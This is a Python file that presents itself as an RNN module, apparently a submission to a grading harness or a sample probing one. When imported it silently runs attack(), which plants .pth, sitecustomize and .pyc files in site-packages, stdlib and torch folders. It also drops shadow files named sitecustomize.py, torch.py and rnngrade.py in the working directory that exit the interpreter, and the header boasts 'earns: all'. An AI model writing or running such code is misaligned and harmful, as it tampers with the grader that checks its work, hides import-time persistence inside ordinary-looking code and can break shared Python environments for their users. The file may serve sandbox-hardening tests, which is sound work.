# does: plants modules, .pth files and compiled files where the next Python would import them
# earns: all
import importlib.util
import os
import py_compile
import site
import sysconfig

import torch
from torch import nn

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

def folders():
    yield from site.getsitepackages()
    yield site.getusersitepackages()
    for name in ("stdlib", "platstdlib", "purelib", "platlib"):
        yield sysconfig.get_path(name)
    yield os.path.dirname(torch.__file__)
    yield os.path.dirname(os.__file__) + "/__pycache__"
    yield os.path.dirname(torch.__file__) + "/__pycache__"


def plant(folder, name, text):
    with open(os.path.join(folder, name), "x") as file:
        file.write(text)
    return "planted"


def compiled(folder):
    with open("planted.py", "w") as file:
        file.write("PLANTED = True\n")
    return py_compile.compile("planted.py", os.path.join(folder, "@BREACH@.pyc"), doraise=True)


def attack():
    for folder in dict.fromkeys(folders()):
        attempt(folder, lambda f=folder: plant(f, "@BREACH@.pth", "# only a comment\n"))
        attempt(folder, lambda f=folder: plant(f, "@BREACH@_sitecustomize.py", "PLANTED = 1\n"))
        attempt(folder, lambda f=folder: compiled(f))
    for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "rnngrade.py"):
        attempt(name, lambda name=name: plant(".", name, "raise SystemExit('planted')\n"))
    attempt("found:", lambda: importlib.util.find_spec("@BREACH@_sitecustomize"))

DONE = attack()

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.u = nn.Parameter(nn.init.xavier_uniform_(torch.empty(input_size, hidden_size)))
        self.w = nn.Parameter(nn.init.orthogonal_(torch.empty(hidden_size, hidden_size)))
        self.c = nn.Parameter(torch.rand(hidden_size) - 0.5)

    def forward(self, x, h_0=None):
        batch, length, _ = x.shape
        h = x.new_zeros(batch, self.c.shape[0]) if h_0 is None else h_0[0]
        found = []
        for t in range(length):
            h = torch.addmm(torch.addmm(self.c, x[:, t], self.u), h, self.w).tanh()
            found.append(h)
        return torch.stack(found, dim=1), h.unsqueeze(0)
